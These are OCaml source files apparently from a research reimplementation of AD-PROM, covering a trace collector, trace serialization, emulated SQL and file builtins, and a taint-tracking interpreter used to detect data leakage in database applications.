  scorer_errors : int;
  e2e_p50 : float;
  e2e_p99 : float;  (** [nan] until the first verdict *)
}

val evaluate :
  ?thresholds:thresholds -> queue_capacity:int -> Metrics.snapshot -> report
(** Derive the node's health from the standard daemon series
    ([adprom_events_{offered,dropped}_total],
    [adprom_queue_depth_shard*], [adprom_scorer_errors_total],
    [adprom_e2e_latency_seconds]). Missing series read as zero /
    [nan], so a fresh node is [Healthy]. *)

val report_to_json :
  ?extra:(string * string) list -> node:string -> uptime_s:float -> report -> string
(** The [/healthz] JSON body; [extra] appends pre-rendered fields.
    Quantiles render as JSON numbers, [null] when empty, ["+Inf"] when
    in the overflow bucket. *)

(** The Calls Collector component (Sec. IV-B2).

    The interpreter reports every library call through a collector; the
    AD-PROM collector records only the call symbol (with its dynamic
    DB-output label) and the caller function — the light-weight design
    the paper credits for the ~78% overhead reduction over ltrace. *)

type event = {
  symbol : Analysis.Symbol.t;
  caller : string;
  block : int;  (** static block id of the call site; -1 when unknown *)
}

type trace = event array

type t = {
  emit :
    symbol:Analysis.Symbol.t ->
    caller:string ->
    block:int ->
    args:Rvalue.t list ->
    unit;
}

val null : t
(** Discards everything (uninstrumented run). *)

val adprom : unit -> t * (unit -> trace)
(** AD-PROM's collector: interns symbols and appends (symbol, caller)
    pairs; the second component returns the trace collected so far. *)

val with_obs :
  ?session:int -> ?ring:Adprom_obs.Log.event Adprom_obs.Ring.t -> t -> t
(** Wrap a collector so every reported call is also emitted as a
    [Debug] event on the structured log (and into [ring], if given),
    tagged with the session id and the current trace id — the joining
    keys between a collected trace and the span tree that produced it.
    Free when the log threshold is above [Debug]. *)

val symbols_of_trace : trace -> Analysis.Symbol.t array

val pp_trace : Format.formatter -> trace -> unit

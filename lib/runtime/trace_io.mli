(** Trace persistence: record library-call traces on the monitored host,
    train elsewhere. One event per line: [caller<TAB>block<TAB>symbol],
    with the symbol in the same encoding as {!Adprom.Profile_io} (name,
    optional Q-label, optional site).

    Parsing is total: malformed input always yields [Error "line N: ..."]
    (with a 1-based line number), never an exception. Blank lines and
    CRLF endings are tolerated. *)

val encode_symbol : Analysis.Symbol.t -> string
(** The canonical one-token symbol encoding ([entry], [exit], [func:f],
    [lib:name:label:site] with [-] for absent label/site), shared with
    the service wire codec. *)

val decode_symbol : string -> (Analysis.Symbol.t, string) result

val parse_event : string -> (Collector.event, string) result
(** Parse one [caller<TAB>block<TAB>symbol] line (no line-number
    context; {!of_string} adds it). *)

val to_string : Collector.trace -> string

val of_string : string -> (Collector.trace, string) result

val save : Collector.trace -> string -> unit

val load : string -> (Collector.trace, string) result

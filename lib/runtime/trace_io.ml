module Symbol = Analysis.Symbol

let encode_symbol = function
  | Symbol.Entry -> "entry"
  | Symbol.Exit -> "exit"
  | Symbol.Func f -> "func:" ^ f
  | Symbol.Lib { name; label; site } ->
      let opt = function None -> "-" | Some i -> string_of_int i in
      Printf.sprintf "lib:%s:%s:%s" name (opt label) (opt site)

let decode_symbol s =
  match String.split_on_char ':' s with
  | [ "entry" ] -> Ok Symbol.Entry
  | [ "exit" ] -> Ok Symbol.Exit
  | [ "func"; f ] -> Ok (Symbol.Func f)
  | [ "lib"; name; label; site ] -> (
      let opt = function
        | "-" -> Ok None
        | v -> (
            match int_of_string_opt v with
            | Some i -> Ok (Some i)
            | None -> Error ("bad int: " ^ v))
      in
      match (opt label, opt site) with
      | Ok label, Ok site -> Ok (Symbol.Lib { name; label; site })
      | Error e, _ | _, Error e -> Error e)
  | _ -> Error ("bad symbol: " ^ s)

let to_string trace =
  let buf = Buffer.create (Array.length trace * 32) in
  Array.iter
    (fun (e : Collector.event) ->
      Buffer.add_string buf
        (Printf.sprintf "%s\t%d\t%s\n" e.Collector.caller e.Collector.block
           (encode_symbol e.Collector.symbol)))
    trace;
  Buffer.contents buf

let parse_event line =
  match String.split_on_char '\t' line with
  | [ caller; block; sym ] -> (
      match int_of_string_opt block with
      | None -> Error (Printf.sprintf "bad block id %S" block)
      | Some block -> (
          match decode_symbol sym with
          | Ok symbol -> Ok { Collector.caller; block; symbol }
          | Error e -> Error e))
  | fields ->
      Error
        (Printf.sprintf "expected 3 tab-separated fields (caller, block, symbol), got %d"
           (List.length fields))

(* Tolerate CRLF line endings: the fields themselves never contain '\r'. *)
let chomp line =
  let n = String.length line in
  if n > 0 && line.[n - 1] = '\r' then String.sub line 0 (n - 1) else line

let of_string text =
  let rec go acc lineno = function
    | [] -> Ok (Array.of_list (List.rev acc))
    | line :: rest -> (
        let line = chomp line in
        match String.trim line with
        | "" -> go acc (lineno + 1) rest
        | _ -> (
            match parse_event line with
            | Ok e -> go (e :: acc) (lineno + 1) rest
            | Error e -> Error (Printf.sprintf "line %d: %s" lineno e)))
  in
  go [] 1 (String.split_on_char '\n' text)

let save trace path =
  let oc = open_out_bin path in
  output_string oc (to_string trace);
  close_out oc

let load path =
  match open_in_bin path with
  | ic ->
      let n = in_channel_length ic in
      let text = really_input_string ic n in
      close_in ic;
      of_string text
  | exception Sys_error msg -> Error msg

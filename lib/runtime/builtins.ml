module Client = Sqldb.Client
module Value = Sqldb.Value

let err fmt = Printf.ksprintf (fun msg -> raise (Istate.Error msg)) fmt

let format_args fmt args =
  let buf = Buffer.create (String.length fmt + 16) in
  let args = ref args in
  let take () =
    match !args with
    | [] -> "" (* missing argument renders as empty, like a lax libc *)
    | a :: rest ->
        args := rest;
        Rvalue.to_display a
  in
  let n = String.length fmt in
  let i = ref 0 in
  while !i < n do
    if fmt.[!i] = '%' && !i + 1 < n then begin
      (match fmt.[!i + 1] with
      | 's' | 'd' | 'f' -> Buffer.add_string buf (take ())
      | '%' -> Buffer.add_char buf '%'
      | c ->
          Buffer.add_char buf '%';
          Buffer.add_char buf c);
      i := !i + 2
    end
    else begin
      Buffer.add_char buf fmt.[!i];
      incr i
    end
  done;
  Buffer.contents buf

let as_int name (v : Rvalue.t) =
  match v.Rvalue.base with
  | Rvalue.VInt n -> n
  | Rvalue.VBool true -> 1
  | Rvalue.VBool false -> 0
  | _ -> err "%s: expected an int, got %s" name (Rvalue.type_name v)

let as_str name (v : Rvalue.t) =
  match v.Rvalue.base with
  | Rvalue.VStr s -> s
  | Rvalue.VInt n -> string_of_int n
  | Rvalue.VNull -> "NULL"
  | _ -> err "%s: expected a string, got %s" name (Rvalue.type_name v)

let as_conn name (v : Rvalue.t) =
  match v.Rvalue.base with
  | Rvalue.VConn c -> c
  | _ -> err "%s: expected a connection, got %s" name (Rvalue.type_name v)

let as_result name (v : Rvalue.t) =
  match v.Rvalue.base with
  | Rvalue.VResult r -> r
  | _ -> err "%s: expected a result, got %s" name (Rvalue.type_name v)

let as_cursor name (v : Rvalue.t) =
  match v.Rvalue.base with
  | Rvalue.VCursor c -> Some c
  | Rvalue.VNull -> None
  | _ -> err "%s: expected a cursor, got %s" name (Rvalue.type_name v)

let as_file name (v : Rvalue.t) =
  match v.Rvalue.base with
  | Rvalue.VFile h -> h
  | _ -> err "%s: expected a file, got %s" name (Rvalue.type_name v)

let as_prepared name (v : Rvalue.t) =
  match v.Rvalue.base with
  | Rvalue.VPrepared p -> p
  | _ -> err "%s: expected a prepared statement, got %s" name (Rvalue.type_name v)

let value_of_rvalue (v : Rvalue.t) =
  match v.Rvalue.base with
  | Rvalue.VInt n -> Value.Int n
  | Rvalue.VStr s -> Value.Str s
  | Rvalue.VNull -> Value.Null
  | Rvalue.VBool true -> Value.Int 1
  | Rvalue.VBool false -> Value.Int 0
  | _ -> err "prepared parameter: unsupported type %s" (Rvalue.type_name v)

let rvalue_of_value taint (v : Value.t) =
  match v with
  | Value.Int n -> Rvalue.int ~taint n
  | Value.Str s -> Rvalue.str ~taint s
  | Value.Null -> Rvalue.retaint taint Rvalue.null

let mk_base base : Rvalue.t = { Rvalue.base; taint = false }

(* Files opened for reading see the seed contents plus anything the
   program already wrote to the same path in this run. *)
let open_file (st : Istate.t) path mode_str =
  let mode =
    match mode_str with
    | "r" -> Rvalue.Read
    | "w" -> Rvalue.Write
    | "a" -> Rvalue.Append
    | other -> err "fopen: unsupported mode %S" other
  in
  match mode with
  | Rvalue.Read ->
      let contents =
        match Hashtbl.find_opt st.Istate.written_files path with
        | Some buf -> Buffer.contents buf
        | None -> (
            match Hashtbl.find_opt st.Istate.file_seeds path with
            | Some s -> s
            | None -> "")
      in
      let read_lines = if contents = "" then [] else String.split_on_char '\n' contents in
      mk_base (Rvalue.VFile { Rvalue.path; mode; read_lines; buffer = Buffer.create 0 })
  | Rvalue.Write | Rvalue.Append ->
      let buffer =
        match Hashtbl.find_opt st.Istate.written_files path with
        | Some buf when mode = Rvalue.Append -> buf
        | Some buf ->
            Buffer.clear buf;
            buf
        | None ->
            let buf = Buffer.create 64 in
            Hashtbl.replace st.Istate.written_files path buf;
            buf
      in
      mk_base (Rvalue.VFile { Rvalue.path; mode; read_lines = []; buffer })

let write_out buffer s =
  Buffer.add_string buffer s;
  Rvalue.int (String.length s)

let record_query (st : Istate.t) sql =
  Istate.push_query st sql;
  sql

let rows_of_result = function
  | Client.Result r -> Array.length r.Sqldb.Engine.rows
  | Client.Command_ok n -> n
  | Client.Error _ -> 0

(* The query log pairs executed SQL (parameters bound in) with its
   result cardinality — the view a server-side audit log would have,
   which is what the query-signature axis scores. *)
let log_query (st : Istate.t) sql result =
  Istate.push_query_log st sql (rows_of_result result);
  result

(* File-level data-flow tracking (the Sec. VII mitigation): when an
   output call stores targeted data into a file, remember the path so
   later actions on that file can be audited. *)
let mark_if_tainted (st : Istate.t) (h : Rvalue.file_handle) args =
  if List.exists (fun (v : Rvalue.t) -> v.Rvalue.taint) args then
    if not (List.mem h.Rvalue.path st.Istate.tainted_paths) then
      st.Istate.tainted_paths <- h.Rvalue.path :: st.Istate.tainted_paths

let dispatch (st : Istate.t) name (args : Rvalue.t list) : Rvalue.t =
  match (name, args) with
  (* database: connections *)
  | "db_connect", [ d ] ->
      let dialect =
        let s = String.lowercase_ascii (as_str name d) in
        if s = "mysql" || s = "my" then Client.Mysql else Client.Postgres
      in
      mk_base (Rvalue.VConn (Client.connect st.Istate.engine dialect))
  (* PostgreSQL style *)
  | "pq_exec", [ conn; sql ] ->
      let wire = st.Istate.query_rewriter (as_str name sql) in
      let r = log_query st wire (Client.exec (as_conn name conn) (record_query st wire)) in
      mk_base (Rvalue.VResult r)
  | "pq_prepare", [ conn; sql ] -> (
      match Client.prepare (as_conn name conn) (record_query st (as_str name sql)) with
      | Ok p -> mk_base (Rvalue.VPrepared p)
      | Error _ -> Rvalue.null)
  | "pq_exec_prepared", conn :: prep :: params ->
      let conn = as_conn name conn and prep = as_prepared name prep in
      let values = List.map value_of_rvalue params in
      let r = log_query st (Client.bound_text prep values) (Client.exec_prepared conn prep values) in
      mk_base (Rvalue.VResult r)
  | "pq_ntuples", [ res ] -> Rvalue.int (Client.ntuples (as_result name res))
  | "pq_nfields", [ res ] -> Rvalue.int (Client.nfields (as_result name res))
  | "pq_getvalue", [ res; row; col ] ->
      rvalue_of_value false
        (Client.getvalue (as_result name res) (as_int name row) (as_int name col))
  | "pq_result_status", [ res ] -> (
      match as_result name res with
      | Client.Error _ -> Rvalue.int 1
      | Client.Result _ | Client.Command_ok _ -> Rvalue.int 0)
  (* MySQL style *)
  | "mysql_query", [ conn; sql ] ->
      let c = as_conn name conn in
      let wire = st.Istate.query_rewriter (as_str name sql) in
      let r = log_query st wire (Client.exec c (record_query st wire)) in
      Client.set_last_result c (Some r);
      Rvalue.int (match r with Client.Error _ -> 1 | Client.Result _ | Client.Command_ok _ -> 0)
  | "mysql_store_result", [ conn ] -> (
      let c = as_conn name conn in
      match Client.last_result c with
      | Some r -> (
          Client.set_last_result c None;
          match Client.cursor_of_result r with
          | Some cur -> mk_base (Rvalue.VCursor cur)
          | None -> Rvalue.null)
      | None -> Rvalue.null)
  | "mysql_fetch_row", [ cur ] -> (
      match as_cursor name cur with
      | None -> Rvalue.null
      | Some cursor -> (
          match Client.fetch_row cursor with
          | Some row -> mk_base (Rvalue.VRow row)
          | None -> Rvalue.null))
  | "mysql_num_rows", [ cur ] -> (
      match as_cursor name cur with
      | None -> Rvalue.int 0
      | Some cursor -> Rvalue.int (Client.cursor_num_rows cursor))
  | "mysql_num_fields", [ cur ] -> (
      match as_cursor name cur with
      | None -> Rvalue.int 0
      | Some cursor -> Rvalue.int (Client.cursor_num_fields cursor))
  | "mysql_prepare", [ conn; sql ] -> (
      match Client.prepare (as_conn name conn) (record_query st (as_str name sql)) with
      | Ok p -> mk_base (Rvalue.VPrepared p)
      | Error _ -> Rvalue.null)
  | "mysql_stmt_execute", conn :: prep :: params -> (
      let conn = as_conn name conn and prep = as_prepared name prep in
      let values = List.map value_of_rvalue params in
      let r = log_query st (Client.bound_text prep values) (Client.exec_prepared conn prep values) in
      match Client.cursor_of_result r with
      | Some cur -> mk_base (Rvalue.VCursor cur)
      | None -> Rvalue.null)
  (* output statements *)
  | "printf", fmt :: rest -> write_out st.Istate.stdout (format_args (as_str name fmt) rest)
  | "puts", [ s ] -> write_out st.Istate.stdout (as_str name s ^ "\n")
  | "fprintf", file :: fmt :: rest ->
      let h = as_file name file in
      mark_if_tainted st h rest;
      write_out h.Rvalue.buffer (format_args (as_str name fmt) rest)
  | "fputs", [ s; file ] ->
      let h = as_file name file in
      mark_if_tainted st h [ s ];
      write_out h.Rvalue.buffer (as_str name s)
  | "fputc", [ c; file ] ->
      let s =
        match c.Rvalue.base with
        | Rvalue.VInt n when n >= 0 && n < 256 -> String.make 1 (Char.chr n)
        | _ -> as_str name c
      in
      write_out (as_file name file).Rvalue.buffer s
  | "fwrite", [ s; file ] ->
      let h = as_file name file in
      mark_if_tainted st h [ s ];
      write_out h.Rvalue.buffer (as_str name s)
  | "write", [ file; s ] ->
      let h = as_file name file in
      mark_if_tainted st h [ s ];
      write_out h.Rvalue.buffer (as_str name s)
  | "sprintf", fmt :: rest -> Rvalue.str (format_args (as_str name fmt) rest)
  | "snprintf", n :: fmt :: rest ->
      let s = format_args (as_str name fmt) rest in
      let limit = max 0 (as_int name n) in
      Rvalue.str (if String.length s <= limit then s else String.sub s 0 limit)
  | "system", [ cmd ] ->
      st.Istate.system_calls <- as_str name cmd :: st.Istate.system_calls;
      Rvalue.int 0
  (* input *)
  | "scanf", [] | "getline", [] -> Rvalue.str (Istate.next_input st)
  | "scanf_int", [] -> (
      match int_of_string_opt (String.trim (Istate.next_input st)) with
      | Some n -> Rvalue.int n
      | None -> Rvalue.int 0)
  | "fgets", [ file ] -> (
      let h = as_file name file in
      match h.Rvalue.read_lines with
      | [] -> Rvalue.str ""
      | line :: rest ->
          h.Rvalue.read_lines <- rest;
          Rvalue.str line)
  | "feof", [ file ] -> Rvalue.bool ((as_file name file).Rvalue.read_lines = [])
  (* files *)
  | "fopen", [ path; mode ] -> open_file st (as_str name path) (as_str name mode)
  | "fclose", [ _ ] -> Rvalue.int 0
  (* strings and misc *)
  | "strcpy", [ s ] -> Rvalue.str (as_str name s)
  | "strcat", [ a; b ] -> Rvalue.str (as_str name a ^ as_str name b)
  | "substr", [ s; start; len ] ->
      let s = as_str name s in
      let start = max 0 (as_int name start) in
      let len = max 0 (as_int name len) in
      let start = min start (String.length s) in
      let len = min len (String.length s - start) in
      Rvalue.str (String.sub s start len)
  | "to_string", [ v ] -> Rvalue.str (Rvalue.to_display v)
  | "atoi", [ s ] -> (
      match int_of_string_opt (String.trim (as_str name s)) with
      | Some n -> Rvalue.int n
      | None -> Rvalue.int 0)
  | "strlen", [ s ] -> Rvalue.int (String.length (as_str name s))
  | "strcmp", [ a; b ] -> Rvalue.int (compare (as_str name a) (as_str name b))
  | "str_contains", [ s; sub ] ->
      let s = as_str name s and sub = as_str name sub in
      let ns = String.length s and nsub = String.length sub in
      let rec probe i = i + nsub <= ns && (String.sub s i nsub = sub || probe (i + 1)) in
      Rvalue.bool (nsub = 0 || probe 0)
  | "rand_int", [ n ] -> Rvalue.int (Mlkit.Rng.int st.Istate.rng (max 1 (as_int name n)))
  (* web applications: request loop + response sinks *)
  | "http_next_request", [] -> (
      match st.Istate.pending_requests with
      | [] ->
          st.Istate.current_request <- None;
          Rvalue.bool false
      | r :: rest ->
          st.Istate.pending_requests <- rest;
          st.Istate.current_request <- Some r;
          Rvalue.bool true)
  | "http_method", [] -> (
      match st.Istate.current_request with
      | Some r -> Rvalue.str r.Testcase.meth
      | None -> Rvalue.str "")
  | "http_path", [] -> (
      match st.Istate.current_request with
      | Some r -> Rvalue.str r.Testcase.path
      | None -> Rvalue.str "")
  | "http_param", [ key ] -> (
      let key = as_str name key in
      match st.Istate.current_request with
      | Some r -> (
          match List.assoc_opt key r.Testcase.params with
          | Some v -> Rvalue.str v
          | None -> Rvalue.str "")
      | None -> Rvalue.str "")
  | "http_respond", [ status; body ] ->
      Buffer.add_string st.Istate.responses
        (Printf.sprintf "HTTP %d
%s
" (as_int name status) (as_str name body));
      Rvalue.int 0
  | "http_write", [ chunk ] ->
      Buffer.add_string st.Istate.responses (as_str name chunk);
      Rvalue.int 0
  | "exit", _ -> raise Istate.Program_exit
  | _ ->
      if Applang.Libspec.is_builtin name then
        if String.length name > 4 && String.sub name 0 4 = "lib_" then Rvalue.int 0
        else err "builtin %s: bad arity (%d args)" name (List.length args)
      else err "unknown function %s" name

(** Mutable world state of one interpreted run: scripted stdin, the
    in-memory file system, the stdout buffer, the program-visible RNG,
    the step budget, and the leak counter. *)

exception Program_exit
(** Raised by the [exit] builtin; a normal termination. *)

exception Error of string
(** Run-time error: type error, unknown builtin, step-budget overrun. *)

type t = {
  engine : Sqldb.Engine.t;
  mutable input : string list;
  file_seeds : (string, string) Hashtbl.t;  (** initial FS contents *)
  written_files : (string, Buffer.t) Hashtbl.t;  (** contents written per path *)
  stdout : Buffer.t;
  mutable system_calls : string list;  (** commands passed to [system], reversed *)
  mutable queries_rev : string list;
      (** raw SQL texts submitted to the DB, newest first — an internal
          accumulator; read through {!queries} for program order *)
  mutable query_log_rev : (string * int) list;
      (** executed queries with parameters bound into the text, paired
          with their result cardinality (row count or affected rows;
          0 on error), newest first. Read through {!query_log}. Feeds
          the query-signature axis. *)
  mutable tainted_paths : string list;
      (** files that received targeted data through an output call *)
  mutable pending_requests : Testcase.request list;
  mutable current_request : Testcase.request option;
  responses : Buffer.t;  (** HTTP response stream of a web app *)
  query_rewriter : string -> string;
      (** applied to raw SQL on the wire — identity normally; a MITM
          attacker's rewrite in Attack 3.2 *)
  rng : Mlkit.Rng.t;
  mutable steps : int;
  max_steps : int;
  mutable leaked_values : int;
      (** tainted values that reached an output statement *)
}

val create :
  ?query_rewriter:(string -> string) ->
  engine:Sqldb.Engine.t ->
  max_steps:int ->
  Testcase.t ->
  t

val tick : t -> unit
(** Account one interpretation step. @raise Error past [max_steps]. *)

val next_input : t -> string
(** Next scripted stdin line; [""] when exhausted. *)

val written : t -> (string * string) list
(** Final contents of files written during the run, sorted by path. *)

val push_query : t -> string -> unit
(** Append one raw SQL text to the query accumulator. *)

val push_query_log : t -> string -> int -> unit
(** Append one executed (bound SQL, cardinality) pair. *)

val queries : t -> string list
(** Raw SQL texts submitted so far, oldest first (program order). *)

val query_log : t -> (string * int) list
(** Executed (bound SQL, cardinality) pairs, oldest first. *)

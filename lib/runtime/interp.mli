(** The AppLang interpreter with dynamic instrumentation.

    Executes a program against the mini DB engine under a scripted test
    case, reporting every library call to a {!Collector.t}. Output
    calls receiving tainted (DB-derived) values are emitted with their
    [_Q<block>] label — the dynamic half of AD-PROM's data-flow
    tracking — and {!Patch} injections fire at their instrumentation
    points, emulating Dyninst binary rewriting. *)

type outcome = {
  stdout : string;
  files : (string * string) list;  (** path, final written contents *)
  system_calls : string list;  (** in issue order *)
  queries : string list;  (** raw SQL texts submitted, in issue order *)
  query_log : (string * int) list;
      (** executed queries (parameters bound into the text) paired with
          their result cardinality, in execution order — the view a
          server-side audit log has; input to the query-signature axis *)
  tainted_files : string list;
      (** paths that received targeted data (Sec. VII file labeling) *)
  responses : string;  (** HTTP response stream of a web-app run *)
  steps : int;
  leaked_values : int;  (** tainted values that reached output statements *)
  status : (unit, string) result;
}

val run :
  ?collector:Collector.t ->
  ?patches:Patch.t list ->
  ?max_steps:int ->
  ?query_rewriter:(string -> string) ->
  analysis:Analysis.Analyzer.t ->
  engine:Sqldb.Engine.t ->
  Testcase.t ->
  outcome
(** Run [main()]. [max_steps] defaults to 1_000_000 interpreter steps.
    Run-time errors are reported in [status], never raised. *)

val collect_trace :
  ?patches:Patch.t list ->
  ?max_steps:int ->
  ?query_rewriter:(string -> string) ->
  analysis:Analysis.Analyzer.t ->
  engine:Sqldb.Engine.t ->
  Testcase.t ->
  Collector.trace * outcome
(** Convenience: run under the AD-PROM collector and return the trace. *)

exception Program_exit

exception Error of string

type t = {
  engine : Sqldb.Engine.t;
  mutable input : string list;
  file_seeds : (string, string) Hashtbl.t;
  written_files : (string, Buffer.t) Hashtbl.t;
  stdout : Buffer.t;
  mutable system_calls : string list;
  mutable queries_rev : string list;
  mutable query_log_rev : (string * int) list;
  mutable tainted_paths : string list;
  mutable pending_requests : Testcase.request list;
  mutable current_request : Testcase.request option;
  responses : Buffer.t;
  query_rewriter : string -> string;
  rng : Mlkit.Rng.t;
  mutable steps : int;
  max_steps : int;
  mutable leaked_values : int;
}

let create ?(query_rewriter = fun sql -> sql) ~engine ~max_steps (tc : Testcase.t) =
  let file_seeds = Hashtbl.create 8 in
  List.iter (fun (path, contents) -> Hashtbl.replace file_seeds path contents) tc.Testcase.files;
  {
    engine;
    input = tc.Testcase.input;
    file_seeds;
    written_files = Hashtbl.create 8;
    stdout = Buffer.create 256;
    system_calls = [];
    queries_rev = [];
    query_log_rev = [];
    tainted_paths = [];
    pending_requests = tc.Testcase.requests;
    current_request = None;
    responses = Buffer.create 256;
    query_rewriter;
    rng = Mlkit.Rng.create tc.Testcase.seed;
    steps = 0;
    max_steps;
    leaked_values = 0;
  }

let tick t =
  t.steps <- t.steps + 1;
  if t.steps > t.max_steps then
    raise (Error (Printf.sprintf "step budget exceeded (%d)" t.max_steps))

let next_input t =
  match t.input with
  | [] -> ""
  | line :: rest ->
      t.input <- rest;
      line

let written t =
  Hashtbl.fold (fun path buf acc -> (path, Buffer.contents buf) :: acc) t.written_files []
  |> List.sort compare

let push_query t sql = t.queries_rev <- sql :: t.queries_rev
let push_query_log t sql rows = t.query_log_rev <- (sql, rows) :: t.query_log_rev
let queries t = List.rev t.queries_rev
let query_log t = List.rev t.query_log_rev

module Ast = Applang.Ast
module Libspec = Applang.Libspec
module Analyzer = Analysis.Analyzer
module Symbol = Analysis.Symbol

type outcome = {
  stdout : string;
  files : (string * string) list;
  system_calls : string list;
  queries : string list;
  query_log : (string * int) list;
  tainted_files : string list;
  responses : string;
  steps : int;
  leaked_values : int;
  status : (unit, string) result;
}

exception Break_exc
exception Continue_exc
exception Return_exc of Rvalue.t

type ctx = {
  analysis : Analyzer.t;
  st : Istate.t;
  collector : Collector.t;
  patches : Patch.t list;
}

let lookup env x =
  match Hashtbl.find_opt env x with
  | Some v -> v
  | None -> raise (Istate.Error (Printf.sprintf "unbound variable %s" x))

let entry_block ctx func =
  match List.assoc_opt func ctx.analysis.Analyzer.cfgs with
  | Some cfg -> cfg.Analysis.Cfg.entry
  | None -> -1

let fire_patches ctx ~caller ~block patches =
  List.iter
    (fun (p : Patch.t) ->
      List.iter
        (fun (c : Patch.injected_call) ->
          let label = if c.Patch.leaks_td && block >= 0 then Some block else None in
          if c.Patch.leaks_td then
            ctx.st.Istate.leaked_values <- ctx.st.Istate.leaked_values + 1;
          ctx.collector.Collector.emit
            ~symbol:(Symbol.Lib { name = c.Patch.name; label; site = None })
            ~caller ~block ~args:[])
        p.Patch.calls)
    patches

let binop_error op a b =
  raise
    (Istate.Error
       (Printf.sprintf "type error: %s %s %s" (Rvalue.type_name a)
          (Applang.Pretty.binop_to_string op)
          (Rvalue.type_name b)))

let eval_binop op (a : Rvalue.t) (b : Rvalue.t) : Rvalue.t =
  let taint = a.Rvalue.taint || b.Rvalue.taint in
  let int_op f =
    match (a.Rvalue.base, b.Rvalue.base) with
    | Rvalue.VInt x, Rvalue.VInt y -> Rvalue.int ~taint (f x y)
    | _ -> binop_error op a b
  in
  let compare_op cmp =
    match (a.Rvalue.base, b.Rvalue.base) with
    | Rvalue.VInt x, Rvalue.VInt y -> Rvalue.bool (cmp (compare x y) 0)
    | Rvalue.VStr x, Rvalue.VStr y -> Rvalue.bool (cmp (compare x y) 0)
    | _ -> binop_error op a b
  in
  let equality () =
    match (a.Rvalue.base, b.Rvalue.base) with
    | Rvalue.VInt x, Rvalue.VInt y -> x = y
    | Rvalue.VStr x, Rvalue.VStr y -> x = y
    | Rvalue.VBool x, Rvalue.VBool y -> x = y
    | Rvalue.VNull, Rvalue.VNull -> true
    | Rvalue.VNull, _ | _, Rvalue.VNull -> false
    | Rvalue.VInt x, Rvalue.VStr y | Rvalue.VStr y, Rvalue.VInt x -> string_of_int x = y
    | _ -> binop_error op a b
  in
  match op with
  | Ast.Add -> (
      match (a.Rvalue.base, b.Rvalue.base) with
      | Rvalue.VInt x, Rvalue.VInt y -> Rvalue.int ~taint (x + y)
      | Rvalue.VStr _, _ | _, Rvalue.VStr _ ->
          Rvalue.str ~taint (Rvalue.to_display a ^ Rvalue.to_display b)
      | _ -> binop_error op a b)
  | Ast.Sub -> int_op ( - )
  | Ast.Mul -> int_op ( * )
  | Ast.Div ->
      int_op (fun x y -> if y = 0 then raise (Istate.Error "division by zero") else x / y)
  | Ast.Mod ->
      int_op (fun x y -> if y = 0 then raise (Istate.Error "modulo by zero") else x mod y)
  | Ast.Eq -> Rvalue.bool (equality ())
  | Ast.Ne -> Rvalue.bool (not (equality ()))
  | Ast.Lt -> compare_op ( < )
  | Ast.Le -> compare_op ( <= )
  | Ast.Gt -> compare_op ( > )
  | Ast.Ge -> compare_op ( >= )
  | Ast.And | Ast.Or -> assert false (* short-circuited in eval *)

let taint_of_result name args (raw : Rvalue.t) =
  match Libspec.taint_of name with
  | Libspec.Source -> Rvalue.retaint true raw
  | Libspec.Propagate ->
      Rvalue.retaint (List.exists (fun (v : Rvalue.t) -> v.Rvalue.taint) args) raw
  | Libspec.Clean -> Rvalue.retaint false raw

let rec eval ctx env caller (expr : Ast.expr) : Rvalue.t =
  match expr with
  | Ast.Int n -> Rvalue.int n
  | Ast.Str s -> Rvalue.str s
  | Ast.Bool b -> Rvalue.bool b
  | Ast.Null -> Rvalue.null
  | Ast.Var x -> lookup env x
  | Ast.Binop (Ast.And, a, b) ->
      if Rvalue.truthy (eval ctx env caller a) then
        Rvalue.bool (Rvalue.truthy (eval ctx env caller b))
      else Rvalue.bool false
  | Ast.Binop (Ast.Or, a, b) ->
      if Rvalue.truthy (eval ctx env caller a) then Rvalue.bool true
      else Rvalue.bool (Rvalue.truthy (eval ctx env caller b))
  | Ast.Binop (op, a, b) -> eval_binop op (eval ctx env caller a) (eval ctx env caller b)
  | Ast.Unop (Ast.Not, a) -> Rvalue.bool (not (Rvalue.truthy (eval ctx env caller a)))
  | Ast.Unop (Ast.Neg, a) -> (
      let v = eval ctx env caller a in
      match v.Rvalue.base with
      | Rvalue.VInt n -> Rvalue.int ~taint:v.Rvalue.taint (-n)
      | _ -> raise (Istate.Error "unary minus on a non-int"))
  | Ast.Index (a, i) -> (
      let v = eval ctx env caller a in
      let idx = eval ctx env caller i in
      match (v.Rvalue.base, idx.Rvalue.base) with
      | Rvalue.VRow cells, Rvalue.VInt n ->
          if n < 0 || n >= Array.length cells then Rvalue.retaint v.Rvalue.taint Rvalue.null
          else
            (match cells.(n) with
            | Sqldb.Value.Int k -> Rvalue.int ~taint:v.Rvalue.taint k
            | Sqldb.Value.Str s -> Rvalue.str ~taint:v.Rvalue.taint s
            | Sqldb.Value.Null -> Rvalue.retaint v.Rvalue.taint Rvalue.null)
      | Rvalue.VStr s, Rvalue.VInt n ->
          if n < 0 || n >= String.length s then Rvalue.str ~taint:v.Rvalue.taint ""
          else Rvalue.str ~taint:v.Rvalue.taint (String.make 1 s.[n])
      | _ -> raise (Istate.Error "indexing a non-row value"))
  | Ast.Call (name, arg_exprs) -> (
      Istate.tick ctx.st;
      let args =
        List.fold_left (fun acc e -> eval ctx env caller e :: acc) [] arg_exprs
        |> List.rev
      in
      match Ast.find_func ctx.analysis.Analyzer.program name with
      | Some func -> call_user ctx name func args
      | None -> call_builtin ctx expr caller name args)

and call_user ctx name (func : Ast.func) args =
  if List.length args <> List.length func.Ast.params then
    raise
      (Istate.Error
         (Printf.sprintf "%s expects %d arguments, got %d" name
            (List.length func.Ast.params) (List.length args)));
  let env = Hashtbl.create 16 in
  List.iter2 (fun p v -> Hashtbl.replace env p v) func.Ast.params args;
  fire_patches ctx ~caller:name ~block:(entry_block ctx name)
    (Patch.fires_at_entry ctx.patches name);
  match exec_block ctx env name func.Ast.body with
  | () -> Rvalue.null
  | exception Return_exc v -> v

and call_builtin ctx expr caller name args =
  let block =
    match Analyzer.block_of_call ctx.analysis expr with Some b -> b | None -> -1
  in
  fire_patches ctx ~caller ~block (Patch.fires_before ctx.patches block);
  let tainted_args = List.filter (fun (v : Rvalue.t) -> v.Rvalue.taint) args in
  let label =
    if Libspec.is_sink name && tainted_args <> [] && block >= 0 then Some block else None
  in
  if Libspec.is_sink name && tainted_args <> [] then
    ctx.st.Istate.leaked_values <- ctx.st.Istate.leaked_values + List.length tainted_args;
  ctx.collector.Collector.emit ~symbol:(Symbol.Lib { name; label; site = None }) ~caller ~block ~args;
  let raw = Builtins.dispatch ctx.st name args in
  let result = taint_of_result name args raw in
  fire_patches ctx ~caller ~block (Patch.fires_after ctx.patches block);
  result

